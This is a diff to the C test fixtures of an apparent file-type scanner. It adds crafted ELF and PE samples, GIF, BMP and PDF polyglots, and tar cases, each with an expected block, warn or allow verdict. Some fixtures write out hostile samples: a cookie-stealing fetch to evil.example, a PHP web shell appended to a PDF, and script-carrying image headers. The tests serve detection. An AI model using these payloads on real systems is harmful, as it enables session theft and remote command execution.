@@ -377,7 +377,45 @@ void sample_elf(struct sbuf *b) { b_elf_exec(b); }
 static void b_elf_so(struct sbuf *b) { elf(b, 3, 0); }
 static void b_elf_pie(struct sbuf *b) { elf(b, 3, 1); }
 static void b_elf_rel(struct sbuf *b) { elf(b, 1, 0); }
-static void n_elf(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; /* no such class */ }
+/* No such class, and no program header size of either class: binfmt_elf refuses it. */
+static void n_elf(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; b->p[54] = 0; }
+/* EI_VERSION 0, and a class byte of 3: binfmt_elf runs both (it checks e_machine and e_phentsize). */
+static void b_elf_v0(struct sbuf *b) { elf(b, 2, 0); b->p[6] = 0; }
+static void b_elf_class3(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; }
+
+/*
+ * A tiny PE: the PE header at offset 4, over the DOS header, so that
+ * e_lfanew (0x3C) is the optional header's SectionAlignment, 4.
+ */
+static void tiny_pe(struct sbuf *b, const char *sig)
+{
+	sb_str(b, "MZ");
+	sb_u16le(b, 0);
+	sb_put(b, sig, 4);
+	sb_u16le(b, 0x14c);	/* i386 */
+	sb_u16le(b, 0);		/* no sections */
+	sb_zero(b, 12);
+	sb_u16le(b, 0x60);	/* optional header size */
+	sb_u16le(b, 0x0103);	/* executable, no relocations */
+	sb_u16le(b, 0x10b);	/* PE32 */
+	sb_zero(b, 14);
+	sb_u32le(b, 0x7c);	/* entry point */
+	sb_zero(b, 8);
+	sb_u32le(b, 0x400000);	/* image base */
+	sb_u32le(b, 4);		/* section alignment: also e_lfanew, at 0x3C */
+	sb_u32le(b, 4);		/* file alignment */
+	sb_zero(b, 8);
+	sb_u16le(b, 4);		/* subsystem version */
+	sb_zero(b, 6);
+	sb_u32le(b, 0x80);	/* image size */
+	sb_u32le(b, 0x7c);	/* headers size */
+	sb_u32le(b, 0);
+	sb_u16le(b, 2);		/* GUI subsystem */
+	sb_pad(b, 0x7c);
+	sb_put(b, "j*XÃ", 4);	/* push 42; pop eax; ret */
+}
+static void b_pe_tiny(struct sbuf *b) { tiny_pe(b, "PE\0\0"); }
+static void n_pe_tiny(struct sbuf *b) { tiny_pe(b, "PE\0\1"); }
 static void b_macho(struct sbuf *b)
 {
 	sb_put(b, "\xcf\xfa\xed\xfe", 4);
@@ -645,6 +683,9 @@ static void b_png_zip(struct sbuf *b)
 
 /* --- tables ------------------------------------------------------------- */
 
+static void b_tar_first_pdf(struct sbuf *b);
+static void n_tar_first_pdf(struct sbuf *b);
+
 const struct sig sigs[] = {
 	{"zip", b_zip, n_zip},
 	{"jar", b_jar, n_jar},
@@ -692,6 +733,10 @@ const struct sig sigs[] = {
 	{"elf-so", b_elf_so, n_elf},
 	{"elf-pie", b_elf_pie, n_elf},
 	{"elf-rel", b_elf_rel, n_elf},
+	{"elf-exec", b_elf_v0, n_elf},
+	{"elf-exec", b_elf_class3, n_elf},
+	{"pe32-exe", b_pe_tiny, n_pe_tiny},
+	{"tar", b_tar_first_pdf, n_tar_first_pdf},
 	{"macho", b_macho, n_macho},
 	{"macho-fat", b_macho_fat, n_class},
 	{"java-class", b_class, n_class},
@@ -752,6 +797,63 @@ const struct sig sigs[] = {
 	{"library-ms", b_libms, b_xml},
 };
 const size_t nsigs = sizeof sigs / sizeof sigs[0];
+
+/* --- polyglots, loader readings, tar identity (issue 8) ------------------- */
+
+/* A GIF signature that opens a JavaScript program: <script src="x.gif"> runs it. */
+static void b_gif_js(struct sbuf *b) { sb_str(b, "GIF89a=alert(document.domain)//"); sb_put(b, "\x01\0\x01\0\x80\0\0;", 8); }
+/* A real 61-pixel-wide GIF: its width spells "=" followed by a zero byte, not JavaScript. */
+static void b_gif_61(struct sbuf *b) { sb_put(b, "GIF89a=\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", 35); }
+/* A GIF whose header sits in a comment, then code. */
+static void b_gif_comment_js(struct sbuf *b) { sb_put(b, "GIF89a/*\x01\0\x01\0\x80\0\0*/=1;alert(1);", 26); }
+static void b_bmp_js(struct sbuf *b) { sb_str(b, "BM=1;fetch('https://evil.example/?'+document.cookie)//\n"); }
+static void b_bmw(struct sbuf *b) { sb_str(b, "BMW owners club: next meeting on Friday.\n"); }
+/* A page ahead of a PDF: Acrobat skips it, a browser runs it. */
+static void b_html_pdf(struct sbuf *b) { sb_str(b, "<html><body><script>alert(1)</script></body></html>\n"); b_pdf(b); }
+static void b_pdf_html(struct sbuf *b) { b_pdf(b); sb_str(b, "<html><body><p>Hello</p></body></html>\n"); }
+static void b_pdf_php(struct sbuf *b) { b_pdf(b); sb_str(b, "<?php system($_GET['c']); ?>\n"); }
+static void b_pdf_tail_twin(struct sbuf *b) { b_pdf(b); sb_zero(b, 64); sb_str(b, "\n"); }
+
+/* A tar whose first member is a PDF (%PDF- at 512, inside the first KiB). */
+static void b_tar_first_pdf(struct sbuf *b)
+{
+	struct sbuf p = {0};
+	b_pdf(&p);
+	tar_block(b, "report.pdf", '0', NULL, NULL, NULL, NULL, (unsigned)p.len, p.p, p.len);
+	sb_zero(b, 1024);
+	sb_free(&p);
+}
+/* The same with the header's checksum broken: no tar reader takes it, it is the PDF Acrobat finds. */
+static void n_tar_first_pdf(struct sbuf *b) { b_tar_first_pdf(b); b->p[148] ^= 1; }
+/* A tar whose last member is a DOCX: its end record sits near the tar's end, inside the member. */
+static void b_tar_last_docx(struct sbuf *b)
+{
+	struct sbuf d = {0};
+	b_docx(&d);
+	tar_block(b, "notes.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
+	tar_block(b, "letter.docx", '0', NULL, NULL, NULL, NULL, (unsigned)d.len, d.p, d.len);
+	sb_zero(b, 1024);
+	sb_free(&d);
+}
+/* A DOCX appended after the tar's end: a second reading. */
+static void b_tar_then_docx(struct sbuf *b)
+{
+	tar_block(b, "notes.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
+	sb_zero(b, 1024);
+	b_docx(b);
+}
+
+/* pax hdrcharset=BINARY: the name is bytes (Latin-1 here), not UTF-8. */
+static void tar_latin1(struct sbuf *b, bool binary)
+{
+	static const char both[] = "21 hdrcharset=BINARY\n17 path=caf\xe9.txt\n", path[] = "17 path=caf\xe9.txt\n";
+	const char *rec = binary ? both : path;
+	tar_block(b, "PaxHeaders/cafe", 'x', NULL, NULL, NULL, NULL, (unsigned)strlen(rec), rec, strlen(rec));
+	tar_block(b, "cafe.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
+	sb_zero(b, 1024);
+}
+static void b_tar_binary(struct sbuf *b) { tar_latin1(b, true); }
+static void b_tar_binary_twin(struct sbuf *b) { tar_latin1(b, false); }
 
 const struct scenario scenarios[] = {
 	/* The issue's acceptance cases. */
@@ -817,9 +919,9 @@ const struct scenario scenarios[] = {
 	{"cv.docx", b_pe64_dll, "", "pe64-dll", "exec.native type.mismatch", "block", "a DLL named as a CV"},
 	{"notes.txt.lnk", b_lnk, "", "lnk", "exec.shortcut", "block", "a shortcut with a double extension"},
 	{"avatar.png", b_html_script, "", "html", "html.script type.mismatch", "block", "HTML posing as an image"},
-	{"photo.gif", b_jpeg_php, "", "jpeg", "type.mismatch type.polyglot", "warn",
+	{"photo.gif", b_jpeg_php, "", "jpeg", "exec.script type.mismatch type.polyglot", "block",
 	 "a JPEG carrying PHP, named .gif"},
-	{"photo2.jpg", b_jpeg_php, "", "jpeg", "type.polyglot", "warn", "a JPEG whose comment holds PHP code"},
+	{"photo2.jpg", b_jpeg_php, "", "jpeg", "exec.script type.polyglot", "block", "a JPEG whose comment holds PHP code"},
 	{"doc.pdf", b_pdf_zip, "", "pdf", "container.prepended exec.script type.polyglot", "block",
 	 "a PDF that is also a ZIP holding a .js: the ZIP is walked too"},
 	{"image.png", b_png_zip, "", "png", "container.prepended type.polyglot", "warn", "a PNG with a ZIP appended"},
@@ -972,6 +1074,26 @@ const struct scenario scenarios[] = {
 	 "a program only the Joliet tree lists: Linux listers never show it"},
 	{"joliet-only-twin.iso", r_iso_joliet_only_twin, "", "iso9660", "", "allow",
 	 "the twin: the Joliet-only file is a note"},
+	/* Loaders, interpreters and second readings (issue 8). */
+	{"update", b_elf_v0, "", "elf-exec", "exec.native", "block", "an ELF with EI_VERSION 0 runs"},
+	{"update2", b_elf_class3, "", "elf-exec", "exec.native", "block", "an ELF with a class byte of 3 runs"},
+	{"update3", n_elf, "", "unknown", "", "allow", "no class and no program header size: the loader refuses it"},
+	{"tiny", b_pe_tiny, "", "pe32-exe", "exec.native", "block", "a PE header over the DOS header (e_lfanew 4)"},
+	{"tiny2", n_pe_tiny, "", "unknown", "", "allow", "the same with a broken PE signature"},
+	{"pixel.gif", b_gif_js, "", "gif", "exec.script type.polyglot", "block", "a GIF signature opening JavaScript"},
+	{"wide.gif", b_gif_61, "", "gif", "", "allow", "a 61-pixel-wide GIF: '=' then a zero byte"},
+	{"comment.gif", b_gif_comment_js, "", "gif", "exec.script type.polyglot", "block", "the GIF header in a JavaScript comment"},
+	{"bitmap.bmp", b_bmp_js, "", "text", "exec.script type.mismatch type.polyglot", "block", "a BMP signature opening JavaScript"},
+	{"club.txt", b_bmw, "", "text", "", "allow", "text that starts with BM"},
+	{"page.pdf", b_html_pdf, "", "pdf", "html.script type.polyglot", "block", "a page with script ahead of a PDF"},
+	{"tail.pdf", b_pdf_html, "", "pdf", "type.polyglot", "warn", "a script-free page behind a PDF"},
+	{"tail-php.pdf", b_pdf_php, "", "pdf", "exec.script type.polyglot", "block", "PHP behind a PDF"},
+	{"tail-twin.pdf", b_pdf_tail_twin, "", "pdf", "", "allow", "zero padding behind a PDF"},
+	{"first-pdf.tar", b_tar_first_pdf, "", "tar", "", "allow", "a tar whose first member is a PDF is a tar"},
+	{"last-docx.tar", b_tar_last_docx, "", "tar", "", "allow", "a DOCX that is a tar member is not a second reading"},
+	{"then-docx.tar", b_tar_then_docx, "", "tar", "container.prepended container.trailing type.polyglot", "warn", "a DOCX after the tar's end is one"},
+	{"binary-names.tar", b_tar_binary, "", "tar-pax", "", "allow", "hdrcharset=BINARY: the name is not UTF-8, nothing to check"},
+	{"latin1-names.tar", b_tar_binary_twin, "", "tar-pax", "path.encoding", "warn", "a pax path must be UTF-8"},
 	/* Pages as a browser reads them (pages.c). */
 	{"comment-abrupt.html", p_comment_abrupt, "", "html", "html.script", "block", "<!--> ends a comment"},
 	{"comment-abrupt-twin.html", p_comment_abrupt_twin, "", "html", "", "allow", "<!-- -> does not"},
